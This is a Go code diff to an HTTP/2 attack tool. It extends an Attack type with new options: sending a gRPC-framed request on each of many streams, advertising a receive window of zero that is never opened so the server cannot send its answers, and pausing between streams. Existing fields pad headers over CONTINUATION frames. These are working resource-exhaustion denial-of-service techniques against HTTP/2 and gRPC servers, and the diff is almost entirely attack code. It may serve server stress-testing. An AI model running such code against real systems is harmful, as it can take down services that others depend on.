@@ -38,7 +38,19 @@ type Attack struct {
 	// PadBytes, when above 0, adds a header "x-pad" this many bytes long
 	// to every stream, split over CONTINUATION frames as needed.
 	PadBytes int
+	// Request, when set, is sent after the headers as the stream's whole
+	// body (a gRPC-framed message), ending the stream: a complete call.
+	Request []byte
+	// ClosedWindow advertises a receive window of 0 and never opens it,
+	// so the server cannot send a byte of its answers.
+	ClosedWindow bool
+	// Gap is a pause between a connection's streams.
+	Gap time.Duration
 }
+
+// EmptyRequest is a gRPC-framed empty message, such as an empty
+// HealthCheckRequest.
+var EmptyRequest = []byte{0, 0, 0, 0, 0}
 
 // Result counts what the server answered.
 type Result struct {
@@ -171,16 +183,35 @@ func (a Attack) conn(ctx context.Context, conn net.Conn, block []byte, r *Runnin
 	fr := http2.NewFramer(conn, conn)
 	fr.ReadMetaHeaders = hpack.NewDecoder(4096, nil)
 	fr.MaxHeaderListSize = 1 << 20
-	if err := fr.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1 << 20}); err != nil {
+	window := uint32(1 << 20)
+	if a.ClosedWindow {
+		window = 0
+	}
+	if err := fr.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: window}); err != nil {
 		return err
 	}
 	readErr := make(chan error, 1)
 	go func() { readErr <- a.read(fr, &wmu, &r.c) }()
 	for i := 0; i < a.Streams && ctx.Err() == nil; i++ {
-		if err := writeHeaders(fr, &wmu, uint32(2*i+1), block); err != nil {
+		id := uint32(2*i + 1)
+		if err := writeHeaders(fr, &wmu, id, block); err != nil {
 			return err
 		}
+		if a.Request != nil {
+			wmu.Lock()
+			err := fr.WriteData(id, true, a.Request)
+			wmu.Unlock()
+			if err != nil {
+				return err
+			}
+		}
 		r.c.sent.Add(1)
+		if a.Gap > 0 {
+			select {
+			case <-ctx.Done():
+			case <-time.After(a.Gap):
+			}
+		}
 	}
 	doneSending()
 	select {
